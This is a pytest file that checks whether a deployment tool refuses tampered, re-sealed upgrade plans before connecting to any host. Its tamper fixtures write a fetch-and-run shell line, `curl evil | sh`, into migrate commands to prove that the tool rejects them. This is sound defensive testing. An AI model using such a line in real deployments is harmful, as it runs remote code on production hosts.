"""`apply plan.json`: the saved plan is planned again from its inputs and must come out byte-identical.

An attacker (or a careless edit) who changes a reviewed plan can recompute its content hash, so
these tests edit a plan, re-seal it properly, and expect `apply` to refuse it, naming the first
difference — before any connection is made: no transport is created, and a loopback listener
standing in for the hosts sees no connection.
"""

from __future__ import annotations

import json
import shutil
import socket
import time
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest

from upgrader.cli.main import main
from upgrader.commands import early
from upgrader.commands.apply import plan_again, reviewed_inputs
from upgrader.engine import endpoints as endpoints_module
from upgrader.engine.staleness import first_difference, rederived_difference
from upgrader.errors import RefusedError
from upgrader.loading.inputs import load_inventory
from upgrader.models.plan import Plan, fingerprint

REPO = Path(__file__).resolve().parents[2]
PLAYBOOK = REPO / "playbooks" / "ordergw-5.2.0.yml"
INVENTORY = REPO / "inventories" / "prod-na.yml"  # TEST-NET addresses: nothing may connect to them

Edit = Callable[[dict[str, Any]], None]


@pytest.fixture
def saved(in_tmp: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]) -> Path:
    """playbook.yml, inventory.yml and plan.json (planned offline) in the working directory."""
    monkeypatch.setenv("UPGRADER_STATE_DIR", str(in_tmp / "state"))
    shutil.copy(PLAYBOOK, in_tmp / "playbook.yml")
    shutil.copy(INVENTORY, in_tmp / "inventory.yml")
    assert main(["plan", "playbook.yml", "-i", "inventory.yml", "--offline", "--out", "plan.json"]) == 0
    capsys.readouterr()
    return in_tmp / "plan.json"


def reseal(path: Path, edit: Edit) -> None:
    """Edit the plan's data and write it back with a correct content hash, as an attacker would."""
    data = json.loads(path.read_text())
    edit(data)
    path.write_text(Plan.from_data(data).sealed().to_json())


def apply(plan: Path, capsys: pytest.CaptureFixture[str], inventory: str = "inventory.yml") -> tuple[int, str]:
    code = main(["apply", str(plan), "-i", inventory, "--yes"])
    return code, capsys.readouterr().err


def refusal(code: int, connections: list[str], err: str, needle: str) -> str:
    """What a refused apply showed, for the reliability row: its exit, the connections made, the line naming why."""
    line = next(x for x in err.splitlines() if needle in x)
    return f"exit {code}, {len(connections)} connection(s): {line[line.index(needle) :][:140]}"


def _first_migrate(data: dict[str, Any]) -> dict[str, Any]:
    """The migrate operation, written once in the operations table and named by every host's migrate step."""
    return next(op for op in data["operations"] if op["op"] == "migrate")


def _add_host(data: dict[str, Any]) -> None:
    host = json.loads(json.dumps(data["hosts"][0]))
    host["host"] = "evil-1"  # its steps' ids are its program's, with its name in front
    data["hosts"].append(host)
    data["phases"][-1]["hosts"].append("evil-1")


def _migrate_command(data: dict[str, Any]) -> None:
    data["spec"]["migrate"]["command"] = ["/bin/sh", "-c", "curl evil | sh"]


def _migrate_detail(data: dict[str, Any]) -> None:
    _first_migrate(data)["argv"] = ["/bin/sh", "-c", "curl evil | sh"]  # what the engine would send


def _version(data: dict[str, Any]) -> None:
    data["hosts"][0]["path"][-1] = "5.1.9"


def _spec(data: dict[str, Any]) -> None:
    data["spec"]["canary"]["bake"] = 0.0  # skip the bake: exactly what a review must catch


def _check(data: dict[str, Any]) -> None:
    data["spec"]["checks"][0]["http"]["status"] = 500


def _assumed(data: dict[str, Any]) -> None:
    # Facts edited consistently, fingerprint and all: planning again from them gives another path.
    data["facts_assumed"]["ny5-oe02"]["installed"] = "5.1.0"
    data["facts_assumed"]["ny5-oe02"]["staged"] = ["5.1.0"]
    data["facts_fingerprint"] = fingerprint({h: a for h, a in sorted(data["facts_assumed"].items())})


EDITS: dict[str, tuple[Edit, str]] = {
    "adds a host": (_add_host, 'hosts[9]: plan says {"address"'),
    "changes the migrate command": (
        _migrate_command,
        'spec.migrate.command[0]: plan says "/bin/sh", playbook gives "{release}/bin/migrate-config"',
    ),
    "changes a migrate step": (
        _migrate_detail,
        'operations[11].argv[0]: plan says "/bin/sh", playbook gives "/opt/ordergw/releases/5.2.0/bin/migrate-config"',
    ),
    "changes a version": (_version, 'hosts[0].path[1]: plan says "5.1.9", playbook gives "5.2.0"'),
    "changes the spec": (_spec, "spec.canary.bake: plan says 0.0, playbook gives 8.0"),
    "changes a check": (_check, "spec.checks[0].http.status: plan says 500, playbook gives 200"),
    "changes the assumed facts": (_assumed, 'hosts[1].from_version: plan says "5.0.0", playbook gives "5.1.0"'),
}


@pytest.mark.reliability
@pytest.mark.parametrize("edit", sorted(EDITS))
def test_an_edited_and_resealed_plan_is_refused_naming_the_difference(
    saved: Path, connections: list[str], capsys: pytest.CaptureFixture[str], edit: str, record_property: Any
) -> None:
    record_property("scenario", f"a saved plan edited and re-sealed (hash recomputed): {edit}")
    record_property("expected", "apply refuses before any connection, naming the first difference; exit 1")
    change, named = EDITS[edit]
    reseal(saved, change)
    assert (
        Plan.from_json(saved.read_text()).compute_hash() == json.loads(saved.read_text())["content_hash"]
    )  # the hash alone would let it through
    code, err = apply(saved, capsys)
    assert code == 1, err
    assert "is not what its playbook, inventory and facts give" in err and named in err, err
    assert connections == []
    record_property("observed", f"exit {code}, {len(connections)} connection(s): {err.split('give: ')[1][:120]}")


def test_an_edit_without_resealing_is_refused_too(
    saved: Path, connections: list[str], capsys: pytest.CaptureFixture[str]
) -> None:
    data = json.loads(saved.read_text())
    data["content_hash"] = "sha256:" + "0" * 64
    saved.write_text(json.dumps(data))
    code, err = apply(saved, capsys)
    assert code == 1 and 'content_hash: plan says "sha256:000' in err, err
    assert connections == []


def test_an_untouched_plan_passes_and_only_then_connects(
    saved: Path, connections: list[str], capsys: pytest.CaptureFixture[str]
) -> None:
    plan = Plan.from_json(saved.read_text())
    inputs = reviewed_inputs(saved, plan, Path("inventory.yml"))
    assert rederived_difference(saved.read_text(), plan_again(plan, inputs)) is None
    code, err = apply(saved, capsys)  # past every check, the pool is the next thing
    assert (code, connections) == (1, ["pool"]) and "reached the pool" in err, err


def test_a_reindented_plan_is_the_same_plan(saved: Path, connections: list[str]) -> None:
    text = json.dumps(json.loads(saved.read_text()), indent=4)
    plan = Plan.from_json(text)
    assert rederived_difference(text, plan_again(plan, reviewed_inputs(saved, plan, Path("inventory.yml")))) is None


def test_apply_from_another_directory_finds_the_playbook_beside_the_inventory(
    saved: Path, connections: list[str], monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    elsewhere = saved.parent / "elsewhere"
    elsewhere.mkdir()
    monkeypatch.chdir(elsewhere)
    code, err = apply(saved, capsys, str(saved.parent / "inventory.yml"))
    assert (code, connections) == (1, ["pool"]) and "reached the pool" in err, err


@pytest.mark.reliability(
    "apply PLAN.json when the playbook it names is missing", "refused before any connection; exit 1"
)
def test_a_missing_playbook_is_refused(
    saved: Path, connections: list[str], capsys: pytest.CaptureFixture[str], record_property: Any
) -> None:
    (saved.parent / "playbook.yml").unlink()
    code, err = apply(saved, capsys)
    assert code == 1 and "the playbook it was planned from, playbook.yml, is missing" in err, err
    assert connections == []
    record_property(
        "observed", refusal(code, connections, err, "the playbook it was planned from, playbook.yml, is missing")
    )


@pytest.mark.reliability(
    "apply PLAN.json when the playbook it names has changed", "refused before any connection; exit 1"
)
def test_a_changed_playbook_is_refused(
    saved: Path, connections: list[str], capsys: pytest.CaptureFixture[str], record_property: Any
) -> None:
    pb = saved.parent / "playbook.yml"
    pb.write_text(pb.read_text() + "# one more comment\n")
    code, err = apply(saved, capsys)
    assert code == 1 and "playbook playbook.yml changed since the plan was made" in err, err
    assert connections == []
    record_property(
        "observed", refusal(code, connections, err, "playbook playbook.yml changed since the plan was made")
    )


@pytest.mark.reliability(
    "apply PLAN.json with an inventory other than the one planned from", "refused before any connection; exit 1"
)
def test_another_inventory_is_refused(
    saved: Path, connections: list[str], capsys: pytest.CaptureFixture[str], record_property: Any
) -> None:
    other = saved.parent / "other.yml"
    other.write_text((saved.parent / "inventory.yml").read_text().replace("ny5-oe04", "ny5-oe44"))
    code, err = apply(saved, capsys, "other.yml")
    assert code == 1 and "inventory other.yml is not the one it was planned from" in err, err
    assert connections == []
    record_property(
        "observed", refusal(code, connections, err, "inventory other.yml is not the one it was planned from")
    )


def test_a_missing_inventory_is_refused(
    saved: Path, connections: list[str], capsys: pytest.CaptureFixture[str]
) -> None:
    code, err = apply(saved, capsys, "gone.yml")
    assert code == 1 and "gone.yml" in err, err
    assert connections == []


def test_facts_that_are_not_facts_are_refused(
    saved: Path, connections: list[str], capsys: pytest.CaptureFixture[str]
) -> None:
    reseal(saved, lambda d: d["facts_assumed"][sorted(d["facts_assumed"])[0]].update(installed="not a version"))
    code, err = apply(saved, capsys)
    assert code == 1 and "facts_assumed are not facts" in err, err
    assert connections == []


# ------------------------------------------------------------ a real listener, a real connection record


@pytest.fixture
def listeners() -> Iterator[list[socket.socket]]:
    socks = []
    for _ in range(2):
        s = socket.socket()
        s.bind(("127.0.0.1", 0))
        s.listen(8)
        s.setblocking(False)
        socks.append(s)
    yield socks
    for s in socks:
        s.close()


LOOPBACK_PLAYBOOK = """\
component: app
vendor: Example
version: "2.0.0"
artifact: {file: app-2.0.0.tar.gz, sha256: "%s"}
upgrade_from: ">=1.0,<2.0"
install: {root: /opt/app}
migrate: {command: ["{release}/bin/migrate", "{previous}"]}
service: {systemd: app.service}
checks: [{name: port, tcp: {port: 9000}}]
""" % ("a" * 64)


@pytest.mark.reliability
def test_a_tampered_plan_reaches_no_host_even_with_a_connection_record(
    in_tmp: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
    listeners: list[socket.socket],
    record_property: Any,
) -> None:
    """Hosts on loopback ports that listen; a record of their endpoints (so `apply` could start early)."""
    state = in_tmp / "state"
    monkeypatch.setenv("UPGRADER_STATE_DIR", str(state))
    hosts = "".join(
        f"      h{i}: {{address: 127.0.0.1, port: {s.getsockname()[1]}, roles: [app], installed: {{app: '1.0.0'}}}}\n"
        for i, s in enumerate(listeners)
    )
    (in_tmp / "inventory.yml").write_text(
        f"name: loop\nknown_hosts: {in_tmp / 'known_hosts'}\ndefaults: {{user: deploy}}\nroles: {{app: [app]}}\n"
        f"datacenters:\n  dc:\n    hosts:\n{hosts}"
    )
    (in_tmp / "playbook.yml").write_text(LOOPBACK_PLAYBOOK)
    assert main(["plan", "playbook.yml", "-i", "inventory.yml", "--offline", "--out", "plan.json"]) == 0
    inv = load_inventory(in_tmp / "inventory.yml")
    early.remember(state, inv.sha256, inv.model, endpoints_module.endpoints(inv.model, inv.path))
    reseal(in_tmp / "plan.json", lambda d: d["spec"]["migrate"].update(command=["/bin/sh", "-c", "id"]))
    capsys.readouterr()
    began: list[early.Started | None] = []
    real = early.start
    monkeypatch.setattr(early, "start", lambda argv, at: began.append(real(argv, at)) or began[-1])
    code, err = apply(in_tmp / "plan.json", capsys)
    assert code == 1 and "spec.migrate.command[0]" in err, err
    time.sleep(0.5)  # an early start runs in a thread: give it time to show up
    for s in listeners:
        with pytest.raises(BlockingIOError):
            s.accept()
    assert began == [None]  # main asked, and the early start began nothing
    record_property(
        "scenario",
        "a re-sealed tampered plan, hosts listening on loopback, a connection record "
        "that would let apply connect early",
    )
    record_property("expected", "refused; no host sees a connection")
    record_property(
        "observed", f"exit {code}; 0 of {len(listeners)} listeners accepted a connection; {err.split('give: ')[1][:80]}"
    )


# ------------------------------------------------------------ first_difference itself


def test_first_difference_names_paths_and_values() -> None:
    assert first_difference({"a": [1, {"b": "x"}]}, {"a": [1, {"b": "x"}]}) is None
    assert first_difference({"a": [1, {"b": "x"}]}, {"a": [1, {"b": "y"}]}) == (
        'a[1].b: plan says "x", playbook gives "y"'
    )
    assert first_difference({"a": [1]}, {"a": [1, 2]}) == "a[1]: plan says nothing, playbook gives 2"
    assert first_difference({"a": 1, "z": 1}, {"z": 1}) == "a: plan says 1, playbook gives nothing"
    assert first_difference({"a": 1}, {"a": 1.0}) == "a: plan says 1, playbook gives 1.0"  # type counts
    assert first_difference({"a": True}, {"a": 1}) == "a: plan says true, playbook gives 1"
    # The edit is named, not the hash that changed with it.
    assert first_difference({"content_hash": "x", "z": 1}, {"content_hash": "y", "z": 2}) == (
        "z: plan says 1, playbook gives 2"
    )
    assert first_difference({"content_hash": "x"}, {"content_hash": "y"}).startswith("content_hash:")  # type: ignore[union-attr]


def test_long_values_are_cut() -> None:
    found = first_difference({"a": "x" * 1000}, {"a": "y"})
    assert found is not None and len(found) < 200 and found.endswith('playbook gives "y"')


def test_refusal_is_a_refused_error(saved: Path) -> None:
    reseal(saved, _spec)
    plan = Plan.from_json(saved.read_text())
    (saved.parent / "playbook.yml").unlink()
    with pytest.raises(RefusedError):
        reviewed_inputs(saved, plan, Path("inventory.yml"))


def test_live_facts_must_still_be_the_assumed_ones_requires_included(saved: Path) -> None:
    """An edit consistent all through (facts, hosts, hash) passes planning again; the live facts catch it."""
    from upgrader.engine.staleness import drift
    from upgrader.planning.planner import facts_from_plan

    plan = Plan.from_json(saved.read_text())
    facts = facts_from_plan(plan)
    assert drift(plan, facts, playbook_sha=None, inventory_sha=plan.inventory.sha256) == []
    host = "ny5-oe01"
    now = facts.hosts[host].components["feedhandler"].model_copy(update={"installed": "3.0.0"})
    moved = facts.hosts[host].model_copy(update={"components": {**facts.hosts[host].components, "feedhandler": now}})
    facts = facts.model_copy(update={"hosts": {**facts.hosts, host: moved}})
    assert drift(plan, facts, playbook_sha=None, inventory_sha=plan.inventory.sha256) == [
        "ny5-oe01: feedhandler now on 3.0.0, not 3.1.0 as planned"
    ]
